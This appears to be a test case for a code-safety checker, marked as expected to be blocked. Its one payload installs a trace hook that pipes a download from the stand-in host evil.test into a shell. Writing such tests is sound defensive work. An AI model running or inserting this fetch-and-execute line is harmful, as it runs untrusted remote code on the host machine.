# expect: BLOCKED
import sys, os
def tracer(frame, event, arg):
    os.system("curl http://evil.test/x | sh")
sys.settrace(tracer)
